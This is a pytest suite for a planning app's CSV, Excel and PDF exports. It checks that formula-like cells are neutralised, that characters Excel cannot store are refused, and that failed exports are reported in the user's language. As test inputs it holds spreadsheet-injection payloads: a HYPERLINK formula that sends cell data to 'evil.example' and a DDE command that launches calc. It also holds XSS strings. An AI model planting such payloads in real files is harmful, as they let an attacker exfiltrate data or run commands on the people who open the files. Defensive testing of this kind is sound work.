"""Exports that cannot attack the reader: formula-like text stays text in CSV and Excel, a zone
file whose cells Excel cannot store is refused at upload with its row and column, every file
the parser accepts exports to CSV, Excel and the PDF brief, and a failed export is told to the
user in their language, never as a traceback."""

from __future__ import annotations

import csv
import datetime
import io
import logging
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace

import pandas as pd
import pytest
from hypothesis import event, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from planner.brief import REPLACEMENT, brief_pdf
from planner.cli import main
from planner.data import Dataset, load
from planner.export import FORMULA_PREFIXES, clusters_csv, csv_text, workbook_bytes, yearly_csv
from planner.i18n import text
from planner.links import default_link, query_string
from planner.outlook import Outlook, assess
from planner.risk import simulate
from planner.scenario import build_registry
from planner.ui import downloads
from planner.zone import DataError
from planner.zonefile import load_zone_csv
from tests.conftest import APP, NORTH

FILE = "zone.csv"
GENERATED = datetime.date(2025, 11, 29)
BUNDLED = load()  # for hypothesis tests, which take no fixtures
# What an attacker would put in a cell: Excel's DDE and HYPERLINK payloads after each prefix.
PAYLOAD = 'HYPERLINK("https://evil.example/?"&A1,"click")'
PREFIX_IDS = {"=": "equals", "+": "plus", "-": "minus", "@": "at", "\t": "tab", "\r": "cr"}
# Which row of NORTH each text field that reaches an export is on: (table, key, field), column.
TEXT_FIELDS = {
    "zone_name": (("zone", "north", "name_en"), "value"),
    "cluster_name": (("cluster", "software", "name_en"), "value"),
    "goal_label": (("goal", "floor_area", "label_en"), "value"),
    "default_source": (("default", "occupancy", "value"), "source"),
    "baseline_source": (("zone", "north", "occupancy_pct"), "source"),
}
COLUMN = {"table": 0, "key": 1, "field": 2, "value": 3, "source": 4}


# --- helpers -----------------------------------------------------------------------------------


def north_rows() -> list[list[str]]:
    return list(csv.reader(io.StringIO(NORTH, newline="")))


def row_of(rows: list[list[str]], where: tuple[str, str, str]) -> int:
    """The 0-based index of the row for (table, key, field); its file row is one more."""
    return next(i for i, row in enumerate(rows) if tuple(row[:3]) == where)


def zone_file(changes: dict[tuple[tuple[str, str, str], str], str]) -> bytes:
    """NORTH with some cells replaced, written by the csv module (so quoting is right)."""
    rows = north_rows()
    for (where, column), value in changes.items():
        rows[row_of(rows, where)][COLUMN[column]] = value
    out = io.StringIO()
    # Every field quoted: the csv module leaves a lone carriage return unquoted otherwise.
    csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    return out.getvalue().encode("utf-8")


def file_row(where: tuple[str, str, str]) -> int:
    # Spreadsheet numbering, the header is row 1; NORTH has no value spanning lines.
    return row_of(north_rows(), where) + 1


def upload(content: bytes, bundled: Dataset) -> Dataset:
    return load_zone_csv(content, FILE, bundled)


def outlook_of(dataset: Dataset) -> Outlook:
    zone = dataset.zones[0]
    return assess(dataset, zone.key, dataset.scenario(zone.key))


def workbook_of(dataset: Dataset, outlook: Outlook | None = None) -> bytes:
    return workbook_bytes(dataset, outlook or outlook_of(dataset), "plan", "?zone=north")


def cells_with(content: bytes, value: str) -> list[Cell]:
    # XML reads every line end as "\n", and openpyxl writes a carriage return unescaped.
    value = value.replace("\r\n", "\n").replace("\r", "\n")
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value == value]


def formula_elements(content: bytes) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets, straight from the XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [f for name in sheets for f in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())]


def assert_text_cells(content: bytes, value: str) -> None:
    """`value` reaches the workbook, always as text that Excel never evaluates."""
    cells = cells_with(content, value)
    assert cells, f"{value!r} is not in the workbook"
    for cell in cells:
        assert cell.data_type == "s", cell.coordinate
        assert cell.quotePrefix, cell.coordinate
    assert formula_elements(content) == []


def csv_rows(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content, newline="")))


# --- formula prefixes: upload → Excel ------------------------------------------------------------

PRINTABLE_PREFIXES = [p for p in FORMULA_PREFIXES if p.isprintable()]  # the parser strips tab and CR at the edges
WHITESPACE_PREFIXES = [p for p in FORMULA_PREFIXES if not p.isprintable()]


@pytest.mark.parametrize("prefix", PRINTABLE_PREFIXES, ids=PREFIX_IDS.get)
@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_an_uploaded_formula_is_text_in_excel(dataset: Dataset, field: str, prefix: str) -> None:
    hostile = prefix + PAYLOAD
    uploaded = upload(zone_file({TEXT_FIELDS[field]: hostile}), dataset)
    assert_text_cells(workbook_of(uploaded), hostile)


def _with_text(dataset: Dataset, field: str, value: str) -> Dataset:
    """`dataset` (one zone) with `value` in `field`, put there directly: the parser strips a
    leading tab or carriage return, so no uploaded cell can start with one."""
    zone = dataset.zones[0]
    if field == "zone_name":
        zone = replace(zone, name_en=value)
    elif field == "cluster_name":
        zone = replace(zone, clusters=(replace(zone.clusters[0], name_en=value), *zone.clusters[1:]))
    elif field == "goal_label":
        zone = replace(
            zone, goals=tuple(replace(g, label_en=value) if g.metric == "floor_area" else g for g in zone.goals)
        )
    elif field == "default_source":
        zone = replace(
            zone, defaults=tuple(replace(d, source=value) if d.key == "occupancy" else d for d in zone.defaults)
        )
    else:
        zone = replace(
            zone,
            baseline_sources=tuple(
                replace(s, source=value) if s.key == "occupancy_pct" else s for s in zone.baseline_sources
            ),
        )
    registry = build_registry((c.key, c.name_ru, c.name_en) for c in zone.clusters)
    return replace(dataset, zones=(zone,), registry=registry)


@pytest.fixture(scope="module")
def north(dataset: Dataset) -> Dataset:
    return upload(NORTH.encode(), dataset)


@pytest.mark.parametrize("prefix", WHITESPACE_PREFIXES, ids=PREFIX_IDS.get)
@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_a_tab_or_cr_prefixed_text_is_text_in_excel(north: Dataset, field: str, prefix: str) -> None:
    hostile = prefix + "=" + PAYLOAD
    assert_text_cells(workbook_of(_with_text(north, field, hostile)), hostile)


def test_numbers_stay_numbers_in_excel(north: Dataset) -> None:
    scenario = north.scenario("north").with_values(north.registry, {"density_trend": -2})
    outlook = assess(north, "north", scenario)
    workbook = load_workbook(io.BytesIO(workbook_of(north, outlook)))
    trend = next(row for row in workbook["Assumptions"].iter_rows() if row[0].value == "density_trend")
    assert trend[2].value == -2 and trend[2].data_type == "n" and not trend[2].quotePrefix
    years = [cell for row in workbook["Yearly"].iter_rows(min_row=2) for cell in row]
    assert years and all(cell.data_type == "n" for cell in years)


def test_without_hostile_text_no_cell_is_marked(north: Dataset) -> None:
    """The quote prefix is for formula-like text only, not every string."""
    workbook = load_workbook(io.BytesIO(workbook_of(north)))
    marked = [c.value for sheet in workbook for row in sheet.iter_rows() for c in row if c.quotePrefix]
    assert all(isinstance(value, str) and value.startswith(FORMULA_PREFIXES) for value in marked)


# --- formula prefixes: CSV ---------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=PREFIX_IDS.get)
def test_a_formula_like_cluster_key_is_refused_at_upload(dataset: Dataset, prefix: str) -> None:
    """Cluster keys are the only text in the CSV downloads; a formula cannot be one."""
    where = ("cluster", "software", "name_ru")
    with pytest.raises(DataError) as error:
        upload(zone_file({(where, "key"): prefix + "cmd|' /C calc'!A0"}), dataset)
    assert (error.value.row, error.value.column) == (file_row(where), "key")
    assert "is not a key" in str(error.value)


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=PREFIX_IDS.get)
def test_a_formula_like_cluster_key_is_quoted_in_the_csv(north: Dataset, prefix: str) -> None:
    """Should a formula-like key ever reach the CSV writer, it is written quoted as text."""
    outlook = outlook_of(north)
    hostile = prefix + PAYLOAD
    outlook = replace(outlook, projection=replace(outlook.projection, cluster_keys=(hostile, "robotics")))
    rows = csv_rows(clusters_csv(outlook))
    keys = {row[rows[0].index("cluster")] for row in rows[1:]}
    assert keys == {"'" + hostile, "robotics"}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param("=1+1", "'=1+1", id="formula"),
        pytest.param("-1.5", "'-1.5", id="negative-number-as-text"),
        pytest.param("a=b", "a=b", id="equals-inside"),
        pytest.param("'=already", "'=already", id="quoted-already"),
        pytest.param("", "", id="empty"),
    ],
)
def test_the_csv_writer_quotes_text_only(value: str, written: str) -> None:
    frame = pd.DataFrame({"label": [value], "number": [-1.5], "count": [-3]})
    assert csv_rows(csv_text(frame))[1] == [written, "-1.5", "-3"]


def test_the_cli_csv_is_the_same_writer(dataset: Dataset, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["project", "--format", "csv"]) == 0
    expected = yearly_csv(assess(dataset, "sez", dataset.scenario("sez", "plan")))
    assert capsys.readouterr().out == expected + "\n"


# --- characters Excel cannot store: refused at upload -------------------------------------------------

# (character, where it goes, column): each class openpyxl refuses (\x00-\x08, \x0b-\x0c,
# \x0e-\x1f) and the two non-characters XML forbids, in each kind of text field, at the
# start, inside and at the end (the parser strips the edges, so a check after stripping
# would miss those).
CONTROL_CASES = [
    ("\x00", ("zone", "north", "name_en"), "value", "{}North"),
    ("\x01", ("default", "occupancy", "value"), "source", "assumption: {} 85 %"),
    ("\x08", ("cluster", "software", "name_ru"), "value", "Программ{}ное"),
    ("\x0b", ("goal", "floor_area", "label_en"), "value", "floor area ×2{}"),
    ("\x0c", ("goal", "new_jobs:plan", "label_ru"), "value", "15 тыс.{} мест"),
    ("\x0e", ("zone", "north", "occupancy_pct"), "source", "{}assumption"),
    ("\x1b", ("zone", "north", "occupancy_pct"), "value", "90{}"),
    ("\x1f", ("cluster", "robotics", "name_en"), "value", "{}"),
    ("\x1c", ("zone", "north", "occupancy_pct"), "key", "{}north"),
    ("\x07", ("cluster", "robotics", "base_share_pct"), "field", "base_share_pct{}"),
    ("\x10", ("goal", "floor_area", "basis"), "table", "goal{}"),
    ("\x1e", ("zone", "north", "name_ru"), "source", "Росстат{}2025"),
    ("\ufffe", ("cluster", "software", "name_en"), "value", "Soft{}ware"),
    ("\uffff", ("actual", "2025", "jobs"), "source", "{}"),
]


def _control_id(case: tuple[str, tuple[str, str, str], str, str]) -> str:
    char, where, column, _ = case
    return f"U+{ord(char):04X}-{where[0]}-{where[2]}-{column}"


@pytest.mark.parametrize("case", CONTROL_CASES, ids=[_control_id(c) for c in CONTROL_CASES])
def test_a_control_character_is_refused_with_row_and_column(dataset: Dataset, case: tuple) -> None:
    char, where, column, template = case
    with pytest.raises(DataError) as error:
        upload(zone_file({(where, column): template.format(char)}), dataset)
    message = str(error.value)
    assert message.startswith(f"{FILE}, row {file_row(where)}, column {column}: "), message
    kind = "control character" if char < " " else "character"
    assert message.endswith(f": contains a {kind} Excel cannot store (U+{ord(char):04X})"), message


@pytest.mark.parametrize(
    "value",
    [
        pytest.param("North\tpark", id="tab"),
        pytest.param("North\npark", id="newline"),
        pytest.param("N\r\npark", id="crlf"),
    ],
)
def test_tab_and_line_breaks_inside_a_name_are_stored_and_exported(dataset: Dataset, value: str) -> None:
    """Excel stores these three, so they are not refused."""
    uploaded = upload(zone_file({TEXT_FIELDS["zone_name"]: value}), dataset)
    assert uploaded.zones[0].name_en == value
    assert cells_with(workbook_of(uploaded), value)


# --- cells longer than Excel holds ---------------------------------------------------------------

LIMIT = 32_767


@pytest.mark.parametrize(
    ("field", "value", "units"),
    [
        pytest.param("default_source", "s" * (LIMIT + 1), LIMIT + 1, id="source-one-over"),
        pytest.param("zone_name", "N" * 40_000, 40_000, id="name-far-over"),
        pytest.param("goal_label", "😀" * (LIMIT // 2 + 1), LIMIT + 1, id="emoji-count-twice"),
    ],
)
def test_an_overlong_cell_is_refused_with_row_and_column(dataset: Dataset, field: str, value: str, units: int) -> None:
    where, column = TEXT_FIELDS[field]
    with pytest.raises(DataError) as error:
        upload(zone_file({(where, column): value}), dataset)
    assert str(error.value) == (
        f"{FILE}, row {file_row(where)}, column {column}: "
        f"is {units:,} characters long; an Excel cell holds at most {LIMIT:,}"
    )


def test_a_cell_of_exactly_the_limit_is_kept_whole(dataset: Dataset) -> None:
    source = "s" * LIMIT
    uploaded = upload(zone_file({TEXT_FIELDS["default_source"]: source}), dataset)
    assert cells_with(workbook_of(uploaded), source)


def test_a_derived_text_over_the_limit_is_cut_visibly(dataset: Dataset) -> None:
    """The growth default's source quotes the area goal's label, so it can outgrow a cell."""
    uploaded = upload(zone_file({TEXT_FIELDS["goal_label"]: "L" * LIMIT}), dataset)
    workbook = load_workbook(io.BytesIO(workbook_of(uploaded)))
    growth = next(row for row in workbook["Assumptions"].iter_rows() if row[0].value == "growth")
    assert len(growth[4].value) == LIMIT and growth[4].value.endswith("…")
    assert growth[4].value.startswith("derived: LLL")


# --- anything the parser accepts exports ---------------------------------------------------------

HOSTILE_TEXT = [
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "**b** `c` $x$ :red[x]",
    *(prefix + PAYLOAD for prefix in FORMULA_PREFIXES),
    "=cmd|' /C calc'!A0",
    "\u202eevil\u202c",
    "\u200fשלום\u200f",
    "مرحبا",
    "😀🚀👩‍👩‍👧",
    "\U0010ffff\ue000\u0378中文",
    "a\u0301\u0308",
    "\u00ad\u2028\u2029\u0085",
    '"quoted", comma',
    "x" * 2000,
]
# Text of any character the parser keeps (a refused file proves nothing here): no surrogates
# (UTF-8 cannot carry them) and none of those Excel cannot store, which are refused above.
storable = st.characters(
    exclude_categories=("Cs",),
    exclude_characters=[*(chr(c) for c in range(32) if c not in (9, 10, 13)), "\ufffe", "\uffff"],
)
texts = st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(storable, min_size=1, max_size=60).filter(str.strip))
# Every text field of NORTH, with the row it is on.
TEXT_CELLS = [
    (("zone", "north", "name_ru"), "value"),
    (("zone", "north", "name_en"), "value"),
    (("zone", "north", "name_en"), "source"),
    (("zone", "north", "occupancy_pct"), "source"),
    (("cluster", "software", "name_ru"), "value"),
    (("cluster", "software", "name_en"), "value"),
    (("cluster", "robotics", "name_en"), "value"),
    (("cluster", "robotics", "density_jobs_per_1000m2"), "source"),
    (("goal", "floor_area", "label_ru"), "value"),
    (("goal", "floor_area", "label_en"), "value"),
    (("goal", "new_jobs:plan", "label_en"), "value"),
    (("goal", "new_jobs:plan", "value"), "source"),
    (("actual", "2025", "jobs"), "source"),
    (("default", "occupancy", "value"), "source"),
]
hostile_files = st.fixed_dictionaries(
    # One cell takes any text at all, so a refused character or an empty cell still comes up.
    {**{cell: texts for cell in TEXT_CELLS}, (("zone", "north", "name_ru"), "source"): st.text(max_size=40)}
)


def accepted(content: bytes, bundled: Dataset) -> Dataset | None:
    try:
        uploaded = upload(content, bundled)
    except DataError:
        event("refused")
        return None  # refused with a reason: allowed, and not what this property is about
    event("accepted")
    return uploaded


@pytest.mark.slow
@settings(max_examples=120, deadline=None)
@given(hostile_files)
def test_every_accepted_file_exports_to_csv_and_excel(changes: dict) -> None:
    uploaded = accepted(zone_file(changes), BUNDLED)
    if uploaded is None:
        return
    outlook = outlook_of(uploaded)
    for content in (yearly_csv(outlook), clusters_csv(outlook)):
        rows = csv_rows(content)
        assert len(rows) > 1 and all(len(row) == len(rows[0]) for row in rows)
        assert not any(cell.startswith(FORMULA_PREFIXES) for row in rows for cell in row if not _number(cell))
    workbook = workbook_of(uploaded, outlook)
    assert formula_elements(workbook) == []
    for sheet in load_workbook(io.BytesIO(workbook)):
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
                    assert cell.data_type == "s" and cell.quotePrefix


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _brief(dataset: Dataset, lang: str) -> bytes:
    link = replace(default_link(dataset), lang=lang)
    link = replace(link, scenario=link.scenario.with_values(dataset.registry, {"mix_software": 90, "draws": 1000}))
    zone = dataset.zone(link.zone)
    outlook = assess(dataset, link.zone, link.scenario, link.jobs_goal)
    simulation = simulate(
        zone, link.scenario, dataset.registry, zone.goal("floor_area"), zone.goal("new_jobs", link.jobs_goal)
    )
    url = "https://planner.example/" + query_string(dataset, link)
    return brief_pdf(dataset, outlook, simulation, link, url, lang, GENERATED)


@pytest.mark.slow
@settings(max_examples=12, deadline=None)
@given(hostile_files, st.sampled_from(["ru", "en"]))
def test_every_accepted_file_makes_a_brief(changes: dict, lang: str) -> None:
    uploaded = accepted(zone_file(changes), BUNDLED)
    if uploaded is None:
        return
    assert _brief(uploaded, lang).startswith(b"%PDF")


@pytest.mark.parametrize("lang", ["ru", "en"])
def test_characters_outside_the_font_are_replaced_visibly(
    dataset: Dataset, lang: str, caplog: pytest.LogCaptureFixture
) -> None:
    """fpdf2 draws nothing for a glyph the font lacks and only logs it; the brief draws a mark."""
    from pypdf import PdfReader

    odd = "\ue000\U0010ffff中"  # private use, the last code point, and CJK: none is in DejaVu Sans
    content = zone_file(
        {TEXT_FIELDS["zone_name"]: "North" + odd, (("zone", "north", "name_ru"), "value"): "Север" + odd}
    )
    with caplog.at_level(logging.WARNING, logger="fpdf"):
        pdf = _brief(upload(content, dataset), lang)
    assert not [r for r in caplog.records if "missing the following glyphs" in r.getMessage()]
    shown = PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
    assert REPLACEMENT * 3 in shown


# --- a failed export in the app --------------------------------------------------------------------

BUILDERS = {  # each download's label and the name it is built by in planner.ui.downloads
    "download_yearly_csv": "yearly_csv",
    "download_clusters_csv": "clusters_csv",
    "download_xlsx": "workbook_bytes",
    "download_json": "to_file",
    "download_brief": "_brief",
}
SUFFIXES = {
    "download_yearly_csv": "-yearly.csv",
    "download_clusters_csv": "-clusters.csv",
    "download_xlsx": ".xlsx",
    "download_json": ".json",
    "download_brief": "-brief.pdf",
}


@pytest.fixture
def deferred(monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Callable[[], object]]]:
    """The download callables the app registers, by file name, as Streamlit would run them on a click."""
    registered: dict[str, Callable[[], object]] = {}
    original = MediaFileManager.add_deferred

    def spy(self: MediaFileManager, data_callable: Callable[[], object], *args: object, **kwargs: object) -> str:
        registered[str(kwargs.get("file_name"))] = data_callable
        return original(self, data_callable, *args, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", spy)
    yield registered


def export_tab(lang: str) -> AppTest:
    """The app in `lang` with the Export tab open (a closed tab builds nothing)."""
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["lang"] = lang
    at.session_state["tab"] = text("tab_export", lang)
    return at.run()


def _click(registered: dict[str, Callable[[], object]], label: str) -> Callable[[], object]:
    return next(build for name, build in registered.items() if name.endswith(SUFFIXES[label]))


def _boom(*_args: object, **_kwargs: object) -> bytes:
    raise RuntimeError("disk full")


@pytest.mark.parametrize("lang", ["ru", "en"])
@pytest.mark.parametrize("label", BUILDERS)
def test_a_failed_export_is_told_in_the_users_language(
    monkeypatch: pytest.MonkeyPatch,
    deferred: dict[str, Callable[[], object]],
    caplog: pytest.LogCaptureFixture,
    label: str,
    lang: str,
) -> None:
    monkeypatch.setattr(downloads, BUILDERS[label], _boom)
    at = export_tab(lang)
    assert not at.exception and not at.error
    assert len(at.main.get("download_button")) == len(BUILDERS)  # the buttons are there; the file fails on a click
    with caplog.at_level(logging.ERROR, logger=downloads.__name__), pytest.raises(downloads.ExportFailed):
        _click(deferred, label)()  # Streamlit answers this with a short note under the button
    logged = [r for r in caplog.records if r.name == downloads.__name__]
    assert len(logged) == 1 and logged[0].exc_info and "disk full" in str(logged[0].exc_info[1])
    at.run()
    assert not at.exception
    assert [e.value for e in at.error] == [text("export_failed", lang, file=text(label, lang))]
    at.run()
    assert not at.error  # told once


def test_the_guarded_downloads_build_the_real_files(
    dataset: Dataset, deferred: dict[str, Callable[[], object]]
) -> None:
    at = export_tab("ru")
    assert not at.exception
    outlook = assess(dataset, "sez", dataset.scenario("sez", "plan"))
    assert _click(deferred, "download_yearly_csv")() == yearly_csv(outlook, "ru")  # in the session's language
    assert _click(deferred, "download_clusters_csv")() == clusters_csv(outlook, "ru")
    assert load_workbook(io.BytesIO(_click(deferred, "download_xlsx")())).sheetnames == [  # type: ignore[arg-type]
        "Сводка",
        "По годам",
        "Кластеры",
        "Допущения",
    ]
    assert not at.error
